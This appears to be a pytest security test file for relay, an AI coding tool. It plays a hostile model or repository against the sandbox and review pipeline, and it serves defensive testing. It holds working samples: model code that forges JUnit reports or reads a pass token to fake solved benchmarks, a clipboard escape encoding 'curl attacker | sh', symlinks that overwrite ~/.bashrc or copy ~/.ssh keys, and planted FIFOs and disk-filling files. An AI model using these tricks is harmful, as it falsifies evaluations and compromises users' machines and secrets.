"""Attack battery, part five: a third red team, against code added after the first two rounds.

Each test is an escape found by attacking relay as a hostile repository or a hostile model (as root and
as an ordinary user). It asserts the SAFE behaviour and fails on the code it was written against (red
tests are expected until relay is fixed). Where it matters the precondition (the attack works) is shown.

Tried and blocked (not tests here):
* generated checks: writing a forged report line to the runner's stdout from a candidate's import
  (/proc/<ppid>/fd/1: EACCES as root); by reading the code: an unknown status or an over-long or malformed
  report line counts as every check `error`, and check text travels as shlex-quoted JSON. A candidate can
  still forge its own checks' statuses (documented: it only reorders candidates that passed the real checks);
* review evidence: API keys and tokens in relay's environment (scrubbed; /proc/1/environ denied);
* model-named paths: `.git`, `.GIT/config`, `vendor/.git`, `./.git`, `..`, absolute, NUL, a directory as a file
  (PathEscape); `.git `, `.git.`, `\u2024git`, `.git\u200b` are written, but are other, inert names on Linux;
* the sandbox reaching a host 127.0.0.1 listener (llama-server's port), DNS, abstract sockets (own netns);
* a relay.toml choosing a local model's binary, weights or server arguments (catalog names only);
* control characters in relay.toml keys/values reaching `relay: error:` (shown as repr).
"""

from __future__ import annotations

import os
import re
import subprocess
import threading
import uuid
from pathlib import Path

import pytest

from relaycode import sandbox
from repo_attacks import git, make_repo

needs_bwrap = pytest.mark.skipif(not sandbox.bwrap_available(), reason="bubblewrap (bwrap) is not installed")
CANARY = "canary-" + uuid.uuid4().hex


# --------------------------------------------------------------------------- the bench's hidden tests

HIDDEN_TEST = "from calc import add\n\n\ndef test_add():\n    assert add(2, 2) == 4\n"
HIDDEN_SCRIPT = "from calc import add\n\nassert add(2, 2) == 4\n"
BUG = "def add(a, b):\n    return a - b\n"

#: calc.py, imported by the hidden test: pytest's own argv names the "unguessable" JUnit report.
FORGE_JUNIT_FROM_ARGV = '''import os, sys
for arg in sys.argv:
    if arg.startswith("--junitxml="):
        with open(arg.split("=", 1)[1], "w") as fh:
            fh.write('<testsuite name="pytest" tests="1" failures="0" errors="0"><testcase name="test_add"/></testsuite>')
        os._exit(0)
''' + BUG

#: pytest.py next to the hidden test: `python -m pytest` imports it (the current directory comes first).
SHADOW_PYTEST = '''import os, sys
for arg in sys.argv:
    if arg.startswith("--junitxml="):
        with open(arg.split("=", 1)[1], "w") as fh:
            fh.write('<testsuite name="pytest" tests="1" failures="0" errors="0"><testcase name="test_add"/></testsuite>')
sys.exit(0)
'''

#: calc.py for a `python FILE.py` case: the "random token printed after the file finished" is in the
#: wrapper's own command line, which /proc/self/cmdline shows to the code it runs.
FORGE_TOKEN_FROM_CMDLINE = '''import os, re
token = re.search(rb"relay-hidden-tests-finished-[0-9a-f]+", open("/proc/self/cmdline", "rb").read())
if token:
    print(token.group().decode(), flush=True)
    os._exit(0)
''' + BUG


def _hidden_case(command: str, hidden: dict[str, str]):  # type: ignore[no-untyped-def]
    from relaycode.bench.suite import Case

    return Case(id="c1", suite="s", kind="bugfix", instruction="fix add", files={}, hidden_files=hidden,
                test_command=command, timeout_s=60)


def _run_hidden(tmp_path: Path, files: dict[str, str], command: str, hidden: dict[str, str]) -> dict[str, object]:
    from relaycode.bench.runner import _run_hidden_tests
    from relaycode.config import load_config

    worktree = make_repo(tmp_path / "wt", files)
    record = _run_hidden_tests(_hidden_case(command, hidden), worktree, load_config(repo=worktree), no_sandbox=False)
    assert record["test_sandboxed"]
    tail = str(record["test_output_tail"])
    if "No module named pytest" in tail or "python: not found" in tail:
        pytest.skip("relay's interpreter (with pytest) is not `python` inside the sandbox here")
    return record


PYTEST_CMD = "python -m pytest -q -p no:cacheprovider test_hidden.py"


@needs_bwrap
@pytest.mark.sandbox
@pytest.mark.parametrize("rig", ["none", "junit-from-argv", "shadow-pytest"])  # none: the control
def test_a_models_code_cannot_forge_the_bench_junit_report(tmp_path: Path, rig: str) -> None:
    # Rigging the bench (falsifies the team's numbers): the JUnit report's name is "unguessable", but the code the
    # hidden test imports runs in pytest's process, whose sys.argv holds `--junitxml=<name>`: it writes a clean
    # report and exits 0 before any test ran. Or the model writes `pytest.py`: `python -m pytest` runs it.
    files = {"calc.py": {"none": BUG, "junit-from-argv": FORGE_JUNIT_FROM_ARGV, "shadow-pytest": BUG}[rig]}
    if rig == "shadow-pytest":
        files["pytest.py"] = SHADOW_PYTEST
    record = _run_hidden(tmp_path, files, PYTEST_CMD, {"test_hidden.py": HIDDEN_TEST})
    if rig == "none":
        assert record["test_exit_code"] == 1 and "assert" in str(record["test_output_tail"])  # the bug is caught
    assert not record["passed"], f"an unfixed bug counted as solved ({rig}): {str(record['test_output_tail'])[-300:]}"


@needs_bwrap
@pytest.mark.sandbox
@pytest.mark.parametrize("rig", ["none", "token-from-cmdline"])  # none: the control
def test_a_models_code_cannot_print_the_bench_finish_token(tmp_path: Path, rig: str) -> None:
    # Rigging the bench: for a `python test_hidden.py` case the pass token is in the wrapper's `python -c` script,
    # readable from /proc/self/cmdline by the module under test, which prints it and exits 0 at import.
    files = {"calc.py": BUG if rig == "none" else FORGE_TOKEN_FROM_CMDLINE}
    record = _run_hidden(tmp_path, files, "python test_hidden.py", {"test_hidden.py": HIDDEN_SCRIPT})
    if rig == "none":
        assert record["test_exit_code"] == 1 and "AssertionError" in str(record["test_output_tail"])
    assert not record["passed"], f"an unfixed bug counted as solved: {str(record['test_output_tail'])[-300:]}"


#: calc.py: replace the report by a FIFO (its name from argv) and exit 0 before pytest writes it.
FIFO_JUNIT = '''import os, sys
for arg in sys.argv:
    if arg.startswith("--junitxml="):
        os.mkfifo(arg.split("=", 1)[1])
        os._exit(0)
''' + BUG


@needs_bwrap
@pytest.mark.sandbox
def test_a_fifo_in_place_of_the_junit_report_does_not_hang_the_bench(tmp_path: Path) -> None:
    # Hangs the bench outside every limit: relay parses the JUnit report with ET.parse (a blocking open) in its
    # own process after the sandbox ended; a FIFO planted under the report's name (from argv) blocks it forever.
    result: dict[str, object] = {}

    def bench() -> None:
        try:
            result.update(_run_hidden(tmp_path, {"calc.py": FIFO_JUNIT}, PYTEST_CMD, {"test_hidden.py": HIDDEN_TEST}))
        except BaseException as exc:  # a skip (no pytest in the sandbox here) is re-raised below
            result["raised"] = exc

    thread = threading.Thread(target=bench, daemon=True)
    thread.start()
    thread.join(15)
    hung = thread.is_alive()
    for fifo in (tmp_path / "wt").glob(".relay-hidden-*.xml"):  # release the blocked reader
        fd = os.open(fifo, os.O_WRONLY | os.O_NONBLOCK)
        os.close(fd)
    thread.join(10)
    if isinstance(result.get("raised"), BaseException):
        raise result["raised"]  # type: ignore[misc]
    assert not hung, "relay's own process blocked on a FIFO the sandboxed code planted as the JUnit report"
    assert not result.get("passed")


# --------------------------------------------------------------------------- relay review --evidence


def _user_git_config(text: str) -> None:
    """The user's own global git config ($XDG_CONFIG_HOME/git/config: conftest isolates it)."""
    path = Path(os.environ["XDG_CONFIG_HOME"]) / "git" / "config"
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text)


@pytest.mark.parametrize("source", ["base", "staged"])
def test_a_pull_requests_attributes_cannot_run_the_users_filter_in_review_evidence(tmp_path: Path, source: str) -> None:
    # The first round made relay's own git calls turn every filter driver into `cat`, but `relay review --evidence`
    # exports the trees with plain `git archive` / `git checkout-index`: a stranger's .gitattributes sends a file
    # through the user's smudge driver (git-lfs fetching from the PR's chosen server, `sops -d` decrypting a secret
    # into the scratch tree that model-written evidence then reads and reports).
    from relaycode.review.evidence import repo_trees

    marker = tmp_path / "ran"
    _user_git_config(f'[filter "probe"]\n\tsmudge = "touch {marker}; cat"\n\tclean = cat\n')
    repo = make_repo(tmp_path / "repo", {"a.py": "x = 1\n"})
    (repo / ".gitattributes").write_text("*.dat filter=probe\n")  # the pull request's change
    (repo / "payload.dat").write_text(f"{CANARY}\n")
    git("add", "-A", cwd=repo)
    if source == "base":
        git("commit", "-qm", "pr", cwd=repo)
    marker.unlink(missing_ok=True)
    changed, _, _ = repo_trees(repo, staged=source == "staged", base="HEAD~1" if source == "base" else None, head=None)
    dest = tmp_path / "dest"
    dest.mkdir()
    changed.write_to(dest)
    assert (dest / "payload.dat").read_text() == f"{CANARY}\n"  # the tree was exported ...
    assert not marker.exists(), f"relay review --evidence ran the user's filter driver ({source})"


# --------------------------------------------------------------------------- scratch copies of the tree


def _allocated(root: Path) -> int:
    """Bytes of disk the files under `root` occupy (hard links counted once)."""
    seen: set[tuple[int, int]] = set()
    total = 0
    for dirpath, _, filenames in os.walk(root):
        for name in filenames:
            st = os.lstat(os.path.join(dirpath, name))
            if (st.st_dev, st.st_ino) not in seen:
                seen.add((st.st_dev, st.st_ino))
                total += st.st_blocks * 512
    return total


def _left_by_a_test(root: Path, kind: str) -> None:
    """What a sandboxed command (the run's verify, the agent's `run`) may leave in the worktree at no disk cost:
    sparse files (RLIMIT_FSIZE caps each at 512 MiB, not their number) or hard links to one file."""
    mib = 1024 * 1024
    if kind == "sparse":
        for i in range(4):
            with open(root / f"sparse{i}.bin", "wb") as fh:
                fh.truncate(16 * mib)
    else:
        (root / "blob.bin").write_bytes(b"x" * mib)
        for i in range(32):
            os.link(root / "blob.bin", root / f"link{i}.bin")


def _copy_of(copier: str, root: Path, into: Path, monkeypatch: pytest.MonkeyPatch) -> int:
    """Disk used by the scratch copy `copier` makes of `root` (measured while it exists)."""
    from types import SimpleNamespace

    from relaycode.stages import candidates, generated_checks

    if copier == "candidate":
        return _allocated(candidates._scratch_copy(SimpleNamespace(root=root), into))  # type: ignore[arg-type]
    used: list[int] = []
    monkeypatch.setattr(generated_checks, "run_checks", lambda copy, *a, **k: used.append(_allocated(copy)) or [])
    draft = generated_checks.GeneratedChecks(model="m", files=(), modules=(), checks=(), baseline=())
    generated_checks._run_in_copy(root, draft, sandbox.SandboxPolicy(), sandbox.Limits(), None)
    return used[0]


@pytest.mark.parametrize("copier", ["candidate", "generated-checks"])
@pytest.mark.parametrize("kind", ["sparse", "hardlinks"])
def test_the_scratch_copy_does_not_multiply_what_a_test_left_on_the_hosts_disk(
        tmp_path: Path, kind: str, copier: str, monkeypatch: pytest.MonkeyPatch) -> None:
    # Fills the host's disk outside the sandbox: every sampled candidate (and the generated checks) is verified in
    # a shutil.copytree of the worktree, made by relay itself in the host's /tmp. Sparse files and hard links cost
    # the test nothing (and pass the per-file size limit), but the copy writes them out in full, once per
    # candidate per attempt: 100 sparse files of 512 MiB become 50 GiB of real disk per candidate.
    root = tmp_path / "wt"
    root.mkdir()
    (root / "a.py").write_text("x = 1\n")
    _left_by_a_test(root, kind)
    before = _allocated(root)
    after = _copy_of(copier, root, tmp_path, monkeypatch)
    assert after <= before + 4 * 1024 * 1024, f"the scratch copy took {after >> 20} MiB for a {before >> 20} MiB tree"


@pytest.mark.parametrize("copier", ["candidate", "generated-checks"])
@pytest.mark.parametrize("left", ["fifo", "deep"])
def test_what_a_test_left_in_the_tree_does_not_crash_the_scratch_copy(
        tmp_path: Path, left: str, copier: str, monkeypatch: pytest.MonkeyPatch) -> None:
    # Ends every later attempt of a run with a traceback: an earlier verify's test leaves a FIFO (shutil.copytree
    # collects "is a named pipe" and raises shutil.Error) or a 600-deep directory chain (Python 3.11's copytree
    # recurses per level: RecursionError) in the worktree; the candidate copy raises outside any RelayError.
    from relaycode.errors import RelayError

    root = tmp_path / "wt"
    root.mkdir()
    (root / "a.py").write_text("x = 1\n")
    if left == "fifo":
        os.mkfifo(root / "pipe")
    else:
        subprocess.run("mkdir -p $(printf 'd/%.0s' $(seq 600))", shell=True, cwd=root, check=True)
    crash = ""
    try:
        _copy_of(copier, root, tmp_path, monkeypatch)
    except RelayError:
        pass  # a clear message naming the problem is safe too
    except (OSError, RecursionError) as exc:
        crash = f"{type(exc).__name__}: {str(exc)[:200]}"  # (failing in here would format 1,000 frames)
    finally:
        subprocess.run(["rm", "-rf", str(root), str(tmp_path / "tree")], check=False)
    assert not crash, f"the scratch copy crashed on a {left} a test left: {crash}"


# --------------------------------------------------------------------------- what relay run prints


#: Any C0 control byte but tab and newline, and DEL/C1: what a terminal acts on.
TERMINAL_CONTROL = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]")
#: ST-terminated OSC 52 (rich drops BEL, not ESC): "put this in the clipboard", then clear the screen.
OSC52 = "\x1b]52;c;Y3VybCBhdHRhY2tlciB8IHNo\x1b\\\x1b[2J"


@pytest.mark.parametrize("event", ["command", "stage_end"])
def test_relay_runs_progress_lines_have_no_escape_sequences(event: str) -> None:
    # The second round cleaned `relay verify`'s output, but `relay run`'s progress printer escapes rich markup
    # only: a repository's verify command (`commands = ["pytest \u001b]52;…"]` in its relay.toml) is printed as
    # `$ <command>` on every verify, and a stage's error (naming a model-written path or a test's output) as
    # `stopped: <error>`, ESC and all: OSC 52 writes the user's clipboard, CSI rewrites what they read.
    import io

    from rich.console import Console

    from relaycode.cli._render import Progress

    buf = io.StringIO()
    progress = Progress(Console(file=buf, force_terminal=True, width=200))
    progress.animated = False
    if event == "command":
        progress({"kind": "command", "command": f"pytest -q{OSC52}", "exit_code": 1, "seconds": 0.1})
    else:
        progress({"kind": "stage_end", "stage": "implement", "error": f"cannot edit src/a.py{OSC52}"})
    shown = TERMINAL_CONTROL.sub("", re.sub(r"\x1b\[[0-9;]*m", "", buf.getvalue()))  # rich's own colours are fine
    assert "52;c;" in shown  # the text is printed ...
    assert "\x1b" not in re.sub(r"\x1b\[[0-9;]*m", "", buf.getvalue()), "a repository or a model wrote escape sequences"


# --------------------------------------------------------------------------- parsing untrusted Python outside


#: 20 KB of valid-looking Python whose syntax tree is 20,000 levels deep: ast.parse / compile raise
#: RecursionError (or MemoryError), which the parsers of relay's doc examples, localize and repo map catch.
DEEP_PY = "x = " + "-" * 20_000 + "1\n\n\ndef f():\n    return 1\n"


def test_a_pull_request_with_a_deeply_nested_file_does_not_crash_relay_review() -> None:
    # A PR stops its own review: it adds a file whose expression nests 20,000 levels; `relay review` finds the
    # enclosing definitions of each hunk with ast.parse, catching only SyntaxError/ValueError: MemoryError (or
    # RecursionError) ends the review with a traceback, so a review bot posts no finding on any file of the PR
    # (a --fail-on gate fails, the safe side, but only as a crash).
    from relaycode.review.context import context_ranges

    crash = ""
    try:
        context_ranges("evil.py", DEEP_PY, [1, 5], len(DEEP_PY.splitlines()))
    except (RecursionError, MemoryError) as exc:
        crash = type(exc).__name__
    assert not crash, f"a hostile file's syntax tree crashed the review: {crash}"


def test_a_deeply_nested_repository_file_does_not_crash_the_basic_checks() -> None:
    # Ends the run with a traceback: the basic checks (`stages/sanity.py`, run outside the sandbox on every changed
    # .py file, and on every sampled candidate) compile the file's old text, a repository file, catching only
    # SyntaxError/ValueError; a 20 KB file that nests 20,000 levels raises RecursionError in relay's own process.
    from relaycode.stages.sanity import plan_checks

    crash = ""
    try:
        plan_checks({"deep.py": DEEP_PY + "\n# fixed\n"}, {"deep.py": DEEP_PY}, "fix f", lambda rel: False)
    except (RecursionError, MemoryError) as exc:
        crash = type(exc).__name__
    assert not crash, f"a repository file's syntax tree crashed the basic checks: {crash}"


@needs_bwrap
@pytest.mark.sandbox
@pytest.mark.parametrize("link", ["dir", "file"])
def test_a_pull_request_cannot_make_review_evidence_write_outside_the_scratch_tree(tmp_path: Path, link: str) -> None:
    # Arbitrary file write as the user (root in CI), outside the sandbox: the PR commits `.relay_evidence` as a link
    # to any directory (or `.relay_evidence/run.py` as a link to any file). `relay review --evidence --base main`
    # extracts the PR's tree with its links (git archive | tar), copies it with its links, then relay itself writes
    # the runner and the model-written claim through them: run.py/claim.json land in ~/.ssh, /etc/…, or the linked
    # file (the user's ~/.bashrc, a sitecustomize.py) is overwritten.
    from relaycode.config import SandboxSettings
    from relaycode.review.evidence import EvidenceChecker, repo_trees, sandbox_for
    from relaycode.review.findings import Evidence

    outside = tmp_path / "outside"
    outside.mkdir()
    victim = outside / "bashrc"
    victim.write_text("# the user's own file\n")
    repo = make_repo(tmp_path / "repo", {"a.py": "def f():\n    return 1\n"})
    if link == "dir":
        os.symlink(outside, repo / ".relay_evidence")
    else:
        (repo / ".relay_evidence").mkdir()
        os.symlink(victim, repo / ".relay_evidence" / "run.py")
    (repo / "a.py").write_text("def f():\n    return 2\n")
    git("add", "-A", cwd=repo)
    git("commit", "-qm", "pr", cwd=repo)
    changed, base, paths = repo_trees(repo, staged=False, base="HEAD~1", head=None)
    policy, limits, env = sandbox_for(SandboxSettings(), 10.0)
    checker = EvidenceChecker(changed, base, paths, policy, limits, env)
    try:
        checker.run("changed", "a.py", Evidence(test=f"assert f() == 1  # {CANARY}"))
    finally:
        checker.close()
    assert sorted(p.name for p in outside.iterdir()) == ["bashrc"], "relay wrote the runner into a directory the PR chose"
    assert victim.read_text() == "# the user's own file\n", "relay overwrote a file the PR's link chose"


def test_review_evidence_does_not_hold_a_pull_requests_tree_in_memory(tmp_path: Path) -> None:
    # Exhausts relay's memory outside the sandbox: a PR commits a file of zeros (4 GiB compress to a few MiB in git);
    # `relay review --evidence --base` reads the whole `git archive` tar into relay's memory before extracting it.
    # Measured with 48 MiB here.
    import tracemalloc

    from relaycode.review.evidence import GitTree

    repo = make_repo(tmp_path / "repo", {"a.py": "x = 1\n"})
    with open(repo / "zeros.bin", "wb") as fh:
        fh.write(bytes(48 * 1024 * 1024))
    git("add", "-A", cwd=repo)
    git("commit", "-qm", "pr", cwd=repo)
    (repo / "zeros.bin").unlink()  # the user never checked it out
    dest = tmp_path / "dest"
    dest.mkdir()
    tracemalloc.start()
    try:
        GitTree(repo, "HEAD").write_to(dest)
        peak = tracemalloc.get_traced_memory()[1] / (1024 * 1024)
    finally:
        tracemalloc.stop()
    assert (dest / "a.py").exists()
    assert peak < 12, f"relay held {peak:.0f} MiB of a PR's tree in memory to export it"


@pytest.mark.parametrize("where", ["evidence", "not-reviewed"])
def test_relay_review_on_a_terminal_prints_no_escape_sequences(where: str) -> None:
    # The second round cleaned findings for `relay review`, but on a terminal (--format text, colour on: what a
    # person at a shell gets) a model's evidence claim (`call`/`expected`/`test`) and the "not reviewed" lines
    # (file names from a stranger's diff) are printed with rich markup escaped only: ESC passes to the terminal.
    from relaycode.review.core import ReviewResult
    from relaycode.review.findings import Evidence, Finding
    from relaycode.review.formats import render

    finding = Finding(path="src/a.py", start_line=1, end_line=1, severity="major", category="bug",
                      message="off by one", models=["m"], status="confirmed", check="fail on the change",
                      evidence=Evidence(call=f"f(1){OSC52}", expected="2") if where == "evidence" else None)
    result = ReviewResult(findings=[finding], reviewers=["m"], evidence_checked=True,
                          not_reviewed=[f"img{OSC52}.png: binary"] if where == "not-reviewed" else [])
    text = render(result, "text", color=True)
    assert "52;c;" in text  # the text is printed ...
    assert "\x1b" not in re.sub(r"\x1b\[[0-9;]*m", "", text), "a model or a PR wrote escape sequences to the terminal"


# --------------------------------------------------------------------------- a repository's >>> examples


@needs_bwrap
@pytest.mark.sandbox
def test_a_repositorys_doc_examples_cannot_crash_verification(tmp_path: Path) -> None:
    # Ends every `relay run` on the repository with a traceback: the run pins the repository's `>>>` examples and
    # passes them on the sandbox's command line, bounded at 100,000 JSON characters; but shlex.quote turns each `'`
    # into 5 characters, and 9,000 `>>> ''` lines (72 KB) become one 160 KB argument: exec fails with E2BIG
    # (MAX_ARG_STRLEN is 128 KiB) and relay raises OSError outside any RelayError.
    from relaycode.stages.verify import run_verify

    examples = "\n".join([">>> ''"] * 9000)
    root = tmp_path / "wt"
    root.mkdir()
    (root / "a.py").write_text(f'"""\n{examples}\n"""\n')
    crash = ""
    try:
        run_verify(root, ["relay:doc-examples"], policy=sandbox.SandboxPolicy(), limits=sandbox.Limits(wall_s=60),
                   examples={"a.py": [examples + "\n"]})
    except OSError as exc:
        crash = f"{type(exc).__name__}: {exc}"
    assert not crash, f"a repository's examples crashed verification: {crash}"


@needs_bwrap
@pytest.mark.sandbox
def test_a_large_file_the_model_changes_does_not_crash_the_basic_checks(tmp_path: Path) -> None:
    # Ends the run with a traceback whenever the model edits a big file: the basic checks pass each changed file's
    # old text (`before`) on the sandbox's command line, unbounded; a 200 KB module (a repository can ship one on
    # purpose; real projects have them) is one argument over MAX_ARG_STRLEN: exec fails with E2BIG, OSError.
    from relaycode.stages.sanity import plan_checks, run_sanity

    root = tmp_path / "wt"
    root.mkdir()
    old = "".join(f"def f{i}():\n    return {i}\n\n\n" for i in range(8000))  # about 200 KB
    (root / "big.py").write_text(old + "def g():\n    return 1\n")
    checks = plan_checks({"big.py": old + "def g():\n    return 1\n"}, {"big.py": old}, "add g", lambda rel: False)
    crash = ""
    try:
        run_sanity(root, checks, policy=sandbox.SandboxPolicy(), limits=sandbox.Limits(wall_s=60))
    except OSError as exc:
        crash = f"{type(exc).__name__}: {exc}"
    assert not crash, f"a large changed file crashed the basic checks: {crash}"


@needs_bwrap
@pytest.mark.sandbox
def test_relays_error_line_has_no_escape_sequences_from_a_planted_path(tmp_path: Path) -> None:
    # A test plants a nested `.git` under a directory whose name is an escape sequence; relay stops it (good) with a
    # SandboxViolation naming the path, printed as `relay: error: …` (and `relay run`'s `stopped: …`) unescaped:
    # the repository writes OSC 52 / CSI to the user's terminal through relay's own error line.
    from typer.testing import CliRunner

    from relaycode.cli import _register, app

    _register()
    plant = "d=$(printf 'v\\033]52;c;Y3VybA==\\033\\\\\\033[2J'); mkdir -p \"$d/.git\"; echo 'ref: refs/heads/main' > \"$d/.git/HEAD\"\n"
    repo = make_repo(tmp_path / "repo", {"plant.sh": plant, "relay.toml": '[stages.verify]\ncommands = ["sh plant.sh"]\n'})
    result = CliRunner().invoke(app, ["verify", "--repo", str(repo)])
    assert result.exit_code != 0 and "git metadata" in result.stderr  # stopped, as it should be ...
    assert TERMINAL_CONTROL.findall(result.stderr) == [], "a planted path wrote escape sequences through relay's error"


def test_review_evidence_does_not_copy_files_through_a_linked_directory(tmp_path: Path) -> None:
    # Reads outside the tree: the tracked directory `keys/` is replaced by a link to ~/.ssh (by a stranger's patch
    # applied with `git apply`, or by the repository's own tests during `relay verify`, which run on the checkout);
    # `relay review --evidence` copies every path the index still lists and refuses a link only as the last
    # component, so `keys/id_ed25519` is read through the linked directory: the user's key lands in the scratch
    # tree, where model-written evidence can print it into the finding's evidence detail (report, SARIF in CI).
    from relaycode.review.evidence import WorkingTree

    secret_dir = tmp_path / "dot-ssh"
    secret_dir.mkdir()
    (secret_dir / "id_ed25519").write_text(f"-----BEGIN OPENSSH PRIVATE KEY----- {CANARY}\n")
    repo = make_repo(tmp_path / "repo", {"a.py": "x = 1\n", "keys/id_ed25519": "a test fixture, not a key\n"})
    subprocess.run(["rm", "-rf", str(repo / "keys")], check=True)
    os.symlink(secret_dir, repo / "keys")  # what the applied patch did
    dest = tmp_path / "dest"
    dest.mkdir()
    WorkingTree(repo).write_to(dest)
    copied = "".join(p.read_text() for p in dest.rglob("*") if p.is_file())
    assert "x = 1" in copied  # the tree was copied ...
    assert CANARY not in copied, "relay copied a file from outside the tree through a linked directory"
